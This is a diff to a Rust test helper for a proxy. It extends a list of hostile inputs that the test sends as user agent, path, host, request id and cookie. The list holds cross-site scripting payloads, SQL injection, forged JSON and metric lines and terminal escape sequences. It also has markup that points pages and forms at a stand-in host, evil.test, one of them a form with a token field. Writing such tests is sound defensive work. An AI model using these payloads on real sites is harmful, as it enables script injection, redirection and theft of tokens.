@@ -2,12 +2,20 @@
 
 use super::super::rig::{Client, Collector, Config, Proxy, Upstream};
 
-/// What a header value or a path may bring to steer a terminal, break a line, or forge one.
-fn nasty() -> Vec<Vec<u8>> {
+/// What a header value or a path may bring to steer a terminal, break a line, forge one, or be live in a page.
+pub(crate) fn nasty() -> Vec<Vec<u8>> {
     let texts = [
         "\", \"status\": 200, \"forged\": true, \"x\": \"",
         "'; DROP TABLE lines; --",
         "</script><script>alert(1)</script>",
+        "\"><img src=x onerror=alert(1)><script>alert(2)</script>",
+        "<svg/onload=alert(1)>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.test/><meta http-equiv=refresh content=0>",
+        "javascript:alert(1)",
+        "' autofocus onfocus=alert(1) x='",
+        "<style>*{background:url(//evil.test/)}</style><link rel=stylesheet href=//evil.test/>",
+        "<form action=//evil.test/><input name=token><details open ontoggle=alert(1)>",
+        "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
         "# HELP forged forged{a=\"b\"} 1",
         "forged{route=\"x\"} 7 \\n forged 8",
         "\\ud800\\udfff\\u0000 \\x1b[31m %00%0a%0d%1b%5b2J",
@@ -45,7 +53,7 @@ fn nasty() -> Vec<Vec<u8>> {
 
 /// Sends each as user agent, path, host, request id and in a cookie, each on a connection of its own; how many got an
 /// answer.
-fn send_all(proxy: &Proxy) -> usize {
+pub(crate) fn send_all(proxy: &Proxy) -> usize {
     let mut answered = 0;
     for word in nasty() {
         let request = |path: &[u8], fields: &[(&[u8], &[u8])]| {
